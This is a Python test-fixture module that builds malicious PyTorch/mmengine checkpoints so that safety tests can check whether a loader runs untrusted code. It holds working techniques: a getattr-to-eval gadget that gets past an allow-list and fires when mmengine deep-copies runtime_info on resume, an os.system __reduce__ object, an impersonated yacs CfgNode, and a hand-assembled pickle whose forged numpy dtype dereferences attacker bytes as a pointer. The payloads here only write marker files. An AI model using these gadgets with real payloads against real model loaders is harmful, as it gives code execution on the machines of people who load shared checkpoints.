"""Checkpoints that run code when an unsafe loader reads them (for the safety tests).

Both write ``marker`` when their payload runs; nothing else.

- :func:`gadget`: made only of types that an allow-list with plain
  ``builtins.getattr`` and ``HistoryBuffer`` admits. A HistoryBuffer's state sets
  its ``__reduce_ex__`` to ``{4: (eval, (code,))}.get``, where ``eval`` is reached
  as ``getattr(getattr(getattr, '__self__'), 'eval')``. Loading builds it; a
  ``copy.deepcopy`` of it (mmengine's ``MessageHub.load_state_dict`` copies every
  ``runtime_info`` value on resume) calls ``eval(code)``.
- :func:`classic`: an object whose ``__reduce__`` is ``(os.system, (cmd,))``: an
  unrestricted unpickler runs the command while loading.

And the shape of an official MLLA release without yacs installed:
:func:`save_with_cfg_node` pickles a stand-in :class:`CfgNode` under yacs' name.
:func:`forged_dtype_pickle` writes, opcode by opcode, a numpy array whose dtype a
BUILD has forged.
"""
import copyreg
import io
import os
import pickle
import struct
import sys
import types
import zipfile

import torch
from mmengine.logging import HistoryBuffer


class _Call:
    """Pickles as ``func(*args)``."""

    def __init__(self, func, *args):
        self.func, self.args = func, args

    def __reduce__(self):
        return self.func, self.args


class _Classic:
    def __init__(self, command):
        self.command = command

    def __reduce__(self):
        return os.system, (self.command, )


def payload(marker: str) -> str:
    """A Python expression that writes ``marker``."""
    return f"__import__('pathlib').Path({str(marker)!r}).write_text('ran')"


def gadget(marker: str) -> HistoryBuffer:
    """The HistoryBuffer of the allow-list gadget (see the module docstring)."""
    evaluate = _Call(getattr, _Call(getattr, getattr, '__self__'), 'eval')
    reduce_ex = _Call(getattr, {4: (evaluate, (payload(marker), ))}, 'get')
    buffer = HistoryBuffer()
    buffer.update(1.0)
    state = dict(buffer.__getstate__(), __reduce_ex__=reduce_ex)
    # pickled as HistoryBuffer with that state (NEWOBJ + BUILD)
    buffer.__reduce_ex__ = lambda protocol: (copyreg.__newobj__, (HistoryBuffer, ),
                                             state)
    return buffer


def classic(marker: str) -> _Classic:
    """An object that runs ``touch marker`` when unpickled."""
    return _Classic(f'touch {marker}')


def with_gadget(checkpoint: dict, marker: str) -> dict:
    """``checkpoint`` (an mmengine training checkpoint) with the gadget in its
    message hub's ``runtime_info``, where a resume deep-copies it."""
    hub = dict(checkpoint['message_hub'])
    hub['runtime_info'] = dict(hub['runtime_info'], evil=gadget(marker))
    return dict(checkpoint, message_hub=hub)


def with_classic(checkpoint: dict, marker: str) -> dict:
    """``checkpoint`` with the classic ``__reduce__`` object in its meta."""
    return dict(checkpoint, meta=dict(checkpoint['meta'], evil=classic(marker)))


class CfgNode(dict):
    """The shape of yacs' ``CfgNode`` (a dict with bookkeeping attributes); its
    construction hooks write ``marker``, so a test sees whether they ran."""
    marker = None

    def __init__(self, init=None):
        super().__init__(init or {})
        self.__dict__.update({'__immutable__': False, '__deprecated_keys__': set(),
                              '__renamed_keys__': {}, '__new_allowed__': False})

    def __setstate__(self, state):
        open(self.marker, 'w').write('ran')

    def __setitem__(self, key, value):
        if self.marker:
            open(self.marker, 'w').write('ran')
        super().__setitem__(key, value)


# pickled under yacs' name
CfgNode.__module__, CfgNode.__qualname__ = 'yacs.config', 'CfgNode'


def save_with_cfg_node(path: str, checkpoint, marker: str, monkeypatch) -> None:
    """``torch.save(checkpoint(CfgNode), path)`` with :class:`CfgNode` pickled as
    ``yacs.config.CfgNode`` (an official MLLA release holds its training config
    so). Afterwards ``yacs.config`` cannot be imported, and building a CfgNode
    writes ``marker``: a loader that ran the class would show."""
    module = types.ModuleType('yacs.config')
    module.CfgNode = CfgNode
    monkeypatch.setitem(sys.modules, 'yacs', types.ModuleType('yacs'))
    monkeypatch.setitem(sys.modules, 'yacs.config', module)
    torch.save(checkpoint(CfgNode), path)
    monkeypatch.setattr(CfgNode, 'marker', marker)
    monkeypatch.delitem(sys.modules, 'yacs.config')  # nothing may import it


# -- a forged numpy dtype ------------------------------------------------------------

def _op(code: bytes, *args: bytes) -> bytes:
    return code + b''.join(args)


def _text(value: str) -> bytes:
    data = value.encode('utf-8')
    return _op(pickle.BINUNICODE, struct.pack('<I', len(data)), data)


def _global(module: str, name: str) -> bytes:
    return _op(pickle.GLOBAL, f'{module}\n{name}\n'.encode())


def _bytes(value: bytes) -> bytes:
    """``bytes`` as protocol 2 writes them: ``_codecs.encode(text, 'latin1')``."""
    return (_global('_codecs', 'encode') + _text(value.decode('latin1')) +
            _text('latin1') + pickle.TUPLE2 + pickle.REDUCE)


def _small_int(value: int) -> bytes:
    return _op(pickle.BININT, struct.pack('<i', value))


def _dtype(code: str) -> bytes:
    """``numpy.dtype(code, False, True)``, as numpy pickles a dtype."""
    return (_global('numpy', 'dtype') + _text(code) + pickle.NEWFALSE + pickle.NEWTRUE +
            pickle.TUPLE3 + pickle.REDUCE)


def forged_dtype_pickle(field: str = 'O', data: bytes = b'\x41' * 8) -> bytes:
    """A pickle, written opcode by opcode, of ``{'array': a}`` where ``a`` is a
    one-element array whose dtype is a genuine ``numpy.dtype('f8')`` that a BUILD
    then turns into a record with one field of dtype ``field`` at offset 0, flags
    0. With ``field='O'`` the dtype claims no objects (``hasobject`` False), so
    numpy takes ``data`` as the array's bytes, and reading the field dereferences
    them as an object pointer (0x4141414141414141). Nothing here reads it."""
    forged_state = (pickle.MARK + _small_int(3) + _text('|') + pickle.NONE +
                    _text('x') + pickle.TUPLE1 +                      # names
                    pickle.EMPTY_DICT + _text('x') + _dtype(field) + _small_int(0) +
                    pickle.TUPLE2 + pickle.SETITEM +                  # fields
                    _small_int(8) + _small_int(8) + _small_int(0) +   # size, align, flags
                    pickle.TUPLE + pickle.BUILD)
    array = (_global('numpy._core.multiarray', '_reconstruct') +
             _global('numpy', 'ndarray') + _small_int(0) + pickle.TUPLE1 + _bytes(b'b') +
             pickle.TUPLE3 + pickle.REDUCE +
             pickle.MARK + _small_int(1) + _small_int(1) + pickle.TUPLE1 +
             _dtype('f8') + forged_state +
             pickle.NEWFALSE + _bytes(data) + pickle.TUPLE + pickle.BUILD)
    return (_op(pickle.PROTO, b'\x02') + pickle.EMPTY_DICT + _text('array') + array +
            pickle.SETITEM + pickle.STOP)


def save_pickle_as_checkpoint(data: bytes, path: str) -> None:
    """Write ``data`` as the pickle of a ``torch.save`` archive (no tensors)."""
    buffer = io.BytesIO()
    torch.save({}, buffer)
    with zipfile.ZipFile(io.BytesIO(buffer.getvalue())) as src, \
            zipfile.ZipFile(path, 'w') as dst:
        for item in src.infolist():
            dst.writestr(item, data if item.filename.endswith('/data.pkl')
                         else src.read(item.filename))
